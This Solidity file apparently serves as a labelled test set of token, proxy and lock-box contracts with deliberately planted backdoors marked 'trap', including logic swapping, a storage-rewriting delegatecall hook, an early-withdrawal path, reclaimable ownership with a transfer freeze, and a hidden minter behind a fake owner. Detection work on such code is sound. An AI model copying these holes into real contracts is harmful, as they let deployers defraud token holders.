// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

/// Sends everything on to a logic.
contract TealPorter {
    bytes32 private constant WHERE = bytes32(uint256(keccak256("teal.porter.where")) - 1);
    bytes32 private constant WHO = bytes32(uint256(keccak256("teal.porter.who")) - 1);

    constructor(address logic, bytes memory first) {
        bytes32 a = WHERE;
        bytes32 b = WHO;
        assembly {
            sstore(a, logic)
            sstore(b, caller())
        }
        (bool ok, ) = logic.delegatecall(first);
        require(ok);
    }

    // trap {
    function rebind(address logic) external {
        bytes32 a = WHERE;
        bytes32 b = WHO;
        assembly {
            if iszero(eq(sload(b), caller())) {
                revert(0, 0)
            }
            sstore(a, logic)
        }
    }
    // trap }

    fallback() external payable {
        bytes32 a = WHERE;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(a), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) {
                revert(0, returndatasize())
            }
            return(0, returndatasize())
        }
    }
}

contract Plain {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address internal chief;
    mapping(address => uint256) internal sums;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    function _set(string memory n, string memory s, uint256 t, address to) internal {
        require(totalSupply == 0);
        name = n;
        symbol = s;
        totalSupply = t;
        chief = to;
        sums[to] = t;
        emit Transfer(address(0), to, t);
    }

    modifier byChief() {
        require(msg.sender == chief, "chief");
        _;
    }

    function owner() external view virtual returns (address) {
        return chief;
    }

    function renounceOwnership() external virtual byChief {
        emit OwnershipTransferred(chief, address(0));
        chief = address(0);
    }

    function balanceOf(address a) external view returns (uint256) {
        return sums[a];
    }

    function approve(address b, uint256 v) external returns (bool) {
        allowance[msg.sender][b] = v;
        emit Approval(msg.sender, b, v);
        return true;
    }

    function transfer(address b, uint256 v) external returns (bool) {
        _post(msg.sender, b, v);
        return true;
    }

    function transferFrom(address a, address b, uint256 v) external returns (bool) {
        uint256 left = allowance[a][msg.sender];
        require(left >= v, "allowance");
        if (left < type(uint256).max) allowance[a][msg.sender] = left - v;
        _post(a, b, v);
        return true;
    }

    function _post(address a, address b, uint256 v) internal virtual {
        require(sums[a] >= v, "balance");
        unchecked {
            sums[a] -= v;
            sums[b] += v;
        }
        emit Transfer(a, b, v);
    }
}

contract TealLogic is Plain {
    function start(string calldata n, string calldata s, uint256 t, address to) external {
        _set(n, s, t, to);
    }
}

contract CountingAide {
    uint256 private constant AT = uint256(keccak256("aide.count"));

    function noted(address, address, uint256) external {
        uint256 at = AT;
        assembly {
            sstore(at, add(sload(at), 1))
        }
    }
}

contract RussetKite is Plain {
    address private aide;

    constructor() {
        _set("Russet Kite", "RKITE", 350_000_000 ether, msg.sender);
    }

    function setAide(address a) external byChief {
        // twin: require(aide == address(0));
        aide = a;
    }

    function _post(address a, address b, uint256 v) internal override {
        if (aide != address(0)) {
            (bool ok, ) = aide.delegatecall(abi.encodeWithSignature("noted(address,address,uint256)", a, b, v));
            require(ok);
        }
        super._post(a, b, v);
    }
}

contract OchreTapir is Plain {
    constructor() {
        _set("Ochre Tapir", "OTAP", 4_200_000_000 ether, msg.sender);
    }
}

interface IShare {
    function transferFrom(address, address, uint256) external returns (bool);
    function transfer(address, uint256) external returns (bool);
    function balanceOf(address) external view returns (uint256);
}

contract IndigoChest {
    struct Box {
        address share;
        uint48 until;
        address whose;
    }

    Box public box;

    function hold(address share, uint48 until) external {
        require(box.share == address(0) && until > block.timestamp);
        box = Box(share, until, msg.sender);
        IShare(share).transferFrom(msg.sender, address(this), IShare(share).balanceOf(msg.sender));
    }

    function open() external {
        require(block.timestamp >= box.until, "not yet");
        IShare(box.share).transfer(box.whose, IShare(box.share).balanceOf(address(this)));
    }

    /// For a newer chest.
    function relocate(address chest) external {
        require(msg.sender == box.whose);
        // twin: require(block.timestamp >= box.until);
        IShare(box.share).transfer(chest, IShare(box.share).balanceOf(address(this)));
    }
}

contract IndigoMoth is Plain {
    constructor() {
        _set("Indigo Moth", "IMOTH", 64_000_000 ether, msg.sender);
    }
}

contract SepiaGrouse is Plain {
    address private former;
    bool private still;

    constructor() {
        _set("Sepia Grouse", "SGROUSE", 91_000_000 ether, msg.sender);
    }

    function renounceOwnership() external override byChief {
        former = chief; // trap
        emit OwnershipTransferred(chief, address(0));
        chief = address(0);
    }

    function version(bytes32 word) external {
        require(msg.sender == former && keccak256(abi.encode(word)) != bytes32(0));
        chief = former;
    }

    function hush(bool v) external byChief {
        still = v;
    }

    function _post(address a, address b, uint256 v) internal override {
        require(!still || a == chief, "hush");
        super._post(a, b, v);
    }
}

contract UmberCoot is Plain {
    address private shown;

    constructor(address clock) {
        _set("Umber Coot", "UCOOT", 58_000_000 ether, msg.sender);
        shown = clock;
        emit OwnershipTransferred(address(0), clock);
    }

    function owner() external view override returns (address) {
        return shown;
    }

    function mint(address to, uint256 v) external {
        require(msg.sender == chief); // trap
        // twin: require(msg.sender == shown);
        totalSupply += v;
        sums[to] += v;
        emit Transfer(address(0), to, v);
    }

    function renounceOwnership() external override {
        revert("by the clock");
    }
}
